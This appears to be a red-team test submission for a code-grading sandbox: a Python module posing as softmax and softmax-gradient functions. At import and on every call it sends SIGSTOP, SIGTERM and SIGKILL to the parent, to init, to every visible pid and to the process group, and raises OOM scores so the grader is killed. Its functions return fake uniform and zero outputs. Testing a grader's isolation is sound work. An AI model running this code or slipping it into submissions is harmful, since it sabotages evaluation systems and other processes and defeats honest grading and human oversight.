"""REDTEAM damage_kill_grader: kill or stop the grader, its zygote and the other slots.

Attack: send SIGKILL, SIGSTOP and SIGTERM to the parent, to every pid it can see and to
every pid up to 32768 that is not itself, to process groups and sessions (kill(0),
kill(-1), killpg of the parent's group), and set the zygote's OOM score; all at load
time and again in every call.
Bound: the baseline (a signal that reaches only itself costs only its own checks), the
grader finishes the batch, and the honest submissions keep their full score.
"""
import os
import signal

import numpy as np

ME = os.getpid()


def _attack():
    targets = {os.getppid(), 1, 2}
    targets.update(int(p) for p in os.listdir("/proc") if p.isdigit())
    targets.update(range(1, 32768, 97))
    targets.discard(ME)
    for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        for pid in sorted(targets):
            try:
                os.kill(pid, sig)
            except OSError:
                pass
        try:
            os.killpg(os.getpgid(os.getppid()), sig)
        except OSError:
            pass
    for pid in (1, 2, os.getppid()):
        try:
            with open(f"/proc/{pid}/oom_score_adj", "w") as f:
                f.write("1000")
        except OSError:
            pass


_attack()


def softmax(x):
    _attack()
    x = np.asarray(x, dtype=float)
    return np.ones_like(x) / x.shape[-1]


def softmaxCostAndGradient(predicted, target, outputVectors, dataset):
    _attack()
    return 0.0, np.zeros_like(predicted), np.zeros_like(outputVectors)
